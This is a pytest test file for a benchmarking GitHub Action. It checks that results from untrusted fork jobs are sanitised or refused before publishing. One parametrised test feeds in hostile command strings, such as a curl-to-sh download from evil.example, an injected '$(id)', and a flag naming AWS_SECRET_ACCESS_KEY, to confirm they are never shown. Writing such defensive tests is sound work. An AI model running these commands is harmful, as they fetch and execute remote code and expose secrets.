"""A result that a stranger's job made is published as text, or refused before anything is published."""

import copy
import io
import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from tests.unit.factories import make_compared, make_comparison, make_paired, make_result, warn
from tests.unit.report.test_comment import HOSTILE, assert_powerless

from bench_action.github.commands import Commands
from bench_action.model.errors import InputError
from bench_action.model.result import Comparison, NotCompared, RuleChange
from bench_action.model.warning import Code
from bench_action.publish import result as module
from bench_action.publish.result import Publisher, read_foreign_result
from bench_action.report.comment import Links, render_comment
from bench_action.report.markdown import render_markdown
from bench_action.report.view import make_view

pytestmark = pytest.mark.unit

RUN = "https://github.com/org/shop/actions/runs/12"
NUMBERS = [0, -1, 1, 2**31, 2**53, 2**53 + 1, 10**400, 1e-300, -1e15, 1e300]
TEXTS = [*HOSTILE, "", "2099-99-99", "\u202e\u200b", "9" * 400, "x" * 5000]


def whole() -> dict[str, Any]:
    """A result in which every list has an entry."""
    result = make_compared(make_paired(940))
    missing = NotCompared(cell="web · new", status="base-failed", reason="base `1a2b3c4` failed", log=("line", "```"))
    warnings = (warn(Code.STEAL, "steal of 3 %"), warn(Code.COUNTS_VARY))
    stored: dict[str, Any] = json.loads(
        result.model_copy(update={"not_compared": (missing,), "warnings": warnings}).model_dump_json()
    )
    return stored


def publish(folder: Path, content: Any) -> tuple[str, str]:
    """Read and publish a result as the privileged job does; return its summary and its log."""
    summary, log = folder / "summary", io.StringIO()
    summary.unlink(missing_ok=True)
    (folder / "result.json").write_text(json.dumps(content), encoding="utf-8")
    commands = Commands(log, {"GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(folder / "output")})
    Publisher(commands, Links(RUN, foreign=True, fork=True)).publish(read_foreign_result(folder), None)
    return summary.read_text(encoding="utf-8"), log.getvalue()


def places(value: Any, *path: str | int) -> Iterator[tuple[str | int, ...]]:
    """Every place in a tree that has a value which is not a tree."""
    if path and not isinstance(value, dict):
        yield path
    if isinstance(value, dict | list):
        for key, item in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(item, *path, key)


def mutate(stored: dict[str, Any], lottery: random.Random, all_places: list[tuple[str | int, ...]]) -> None:
    """Change one value to another of its kind, so that most results still match the schema."""
    path = lottery.choice(all_places)
    parent: Any = stored
    for key in path[:-1]:
        parent = parent[key]
    old = parent[path[-1]]
    new: list[Any] = [None]
    match old:
        case bool():
            new = [not old]
        case int() | float():
            new = [*NUMBERS, None]
        case str():
            new = [*TEXTS, "base", "head", "duet", "count", "variant", "requests_per_second", "inconclusive"]
        case list():
            new = [[], old * 2, old[:-1], old[::-1]]
    parent[path[-1]] = lottery.choice(new)


def test_publish__of_any_contradiction_succeeds_or_is_refused(tmp_path: Path) -> None:
    """A seconds-long sample of the mutants that `make faults` counts."""
    lottery, original, outcomes = random.Random(7), whole(), {"published": 0, "refused": 0}
    for _ in range(60):
        stored = copy.deepcopy(original)
        for _ in range(lottery.randint(1, 3)):
            mutate(stored, lottery, list(places(stored)))
        try:
            publish(tmp_path, stored)
            outcome = "published"
        except InputError:
            outcome = "refused"
        outcomes[outcome] += 1
        assert (tmp_path / "summary").exists() == (outcome == "published")
    assert min(outcomes.values()) > 5


def replace_texts(value: Any, text: str, *, key: str = "") -> Any:
    """Replace every text that the schema leaves free."""
    fixed = {"metric", "kind", "method", "verdict", "level", "revision", "phase", "side", "code", "status", "unit"}
    if isinstance(value, str):
        return value if key in fixed | {"better", "rules", "started_at", "verdict_by_head_rules"} else text
    if isinstance(value, list):
        return [replace_texts(item, text, key=key) for item in value]
    if isinstance(value, dict):
        return {name: replace_texts(item, text, key=name) for name, item in value.items()}
    return value


@pytest.mark.parametrize("text", HOSTILE)
def test_publish__no_text_is_a_mention_a_link_a_picture_or_a_heading(tmp_path: Path, text: str) -> None:
    stored = replace_texts(whole(), text)
    summary, log = publish(tmp_path, stored)
    comment = render_comment(read_foreign_result(tmp_path), Links(RUN, foreign=True, fork=True))
    for markdown in (summary, comment):
        html = cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
        for heading in ("h1", "h2"):  # of the report's own
            html = html.replace(f"<{heading}>", "<p>").replace(f"</{heading}>", "</p>")
        assert_powerless(html)
    assert all(line.startswith("::") for line in log.splitlines())


def test_publish__the_commit_of_base_is_only_text(tmp_path: Path) -> None:
    stored = whole()
    for text in ("@github", "\n\n# OWN", "<del>a", "[a](b)"):
        stored["source"]["base_sha"] = text
        (tmp_path / "result.json").write_text(json.dumps(stored), encoding="utf-8")
        comment = render_comment(read_foreign_result(tmp_path), Links(RUN, foreign=True, fork=True))
        assert_powerless(cmarkgfm.github_flavored_markdown_to_html(comment, options=Options.CMARK_OPT_UNSAFE))


def test_publish__the_summary_has_no_picture_as_none_is_next_to_it(tmp_path: Path) -> None:
    summary, _ = publish(tmp_path, whole())
    assert "![" not in summary
    assert "![" in render_markdown(make_view(make_result()))


def test_publish__nothing_invisible_is_shown(tmp_path: Path) -> None:
    stored = replace_texts(whole(), "a\u061c\u00ad\u2063\ufeff\U000e0041b\u202e")
    summary, log = publish(tmp_path, stored)
    comment = render_comment(read_foreign_result(tmp_path), Links(RUN, foreign=True, fork=True))
    for text in (summary, comment, log):
        assert "ab" in text
        assert not set(text) & set("\u061c\u00ad\u2063\ufeff\U000e0041\u202e")


def longer(name: str, count: int) -> Callable[[dict[str, Any]], None]:
    def change(stored: dict[str, Any]) -> None:
        stored[name] = [stored[name][0]] * count

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (longer("trials", 21), "`trials` has 21 entries"),
        (longer("comparisons", 31), "`comparisons` has 31 entries"),
        (lambda stored: stored["trials"][0].update(requests=10**400), "a number that no run measures"),
        (lambda stored: stored["environment"]["images"].update(dict.fromkeys(map(str, range(31)), "x")), "`images`"),
    ],
    ids=["trials", "comparisons", "number", "mapping"],
)
def test_read_foreign_result__refuses_what_no_run_has(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: Callable[[dict[str, Any]], None], message: str
) -> None:
    monkeypatch.setattr(module, "_MOST", {"trials": 20})
    monkeypatch.setattr(module, "_MOST_OTHERS", 30)
    stored = json.loads(make_result().model_dump_json())
    change(stored)
    with pytest.raises(InputError, match=message):
        publish(tmp_path, stored)


def test_render__compares_no_comparison_with_all_others(monkeypatch: pytest.MonkeyPatch) -> None:
    """Thousands of them would take hours."""

    def refuse(one: object, other: object) -> bool:
        raise AssertionError(one, other)

    many = tuple(make_comparison(variant=f"v{number}") for number in range(20))
    result = make_result(comparisons=many, verdict="regressed", compared=("x",))
    monkeypatch.setattr(Comparison, "__eq__", refuse)
    render_comment(result, Links())


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("bench-action run --preset ci --baseline 1a2b3c4", "bench-action run --preset ci --baseline 1a2b3c4"),
        ("curl https://evil.example/x | sh #", "bench-action run"),
        ("bench-action run; curl evil.example", "bench-action run"),
        ("bench-action run $(id)", "bench-action run"),
        ("bench-action run --host root@evil.example", "bench-action run"),
        ("bench-action run --secrets AWS_SECRET_ACCESS_KEY", "bench-action run"),
        ("bench-action history x", "bench-action run"),
    ],
)
def test_read_foreign_result__advises_no_command_of_a_stranger(tmp_path: Path, command: str, shown: str) -> None:
    result = make_result()
    run = result.run.model_copy(update={"command": command})
    (tmp_path / "result.json").write_text(result.model_copy(update={"run": run}).model_dump_json(), encoding="utf-8")
    assert read_foreign_result(tmp_path).run.command == shown


def test_comment__however_long_a_stranger_s_rules_are_says_that_figures_are_unverified() -> None:
    changes = tuple(RuleChange(what="x" * 4000, before="y" * 4000, after="z" * 4000) for _ in range(6))
    result = make_result().model_copy(update={"rule_changes": changes})
    text = render_comment(result, Links(RUN, foreign=True, fork=True))
    assert len(text) <= 65_000
    assert text.startswith("### ")
    assert "these figures are unverified" in text.splitlines()[-1]
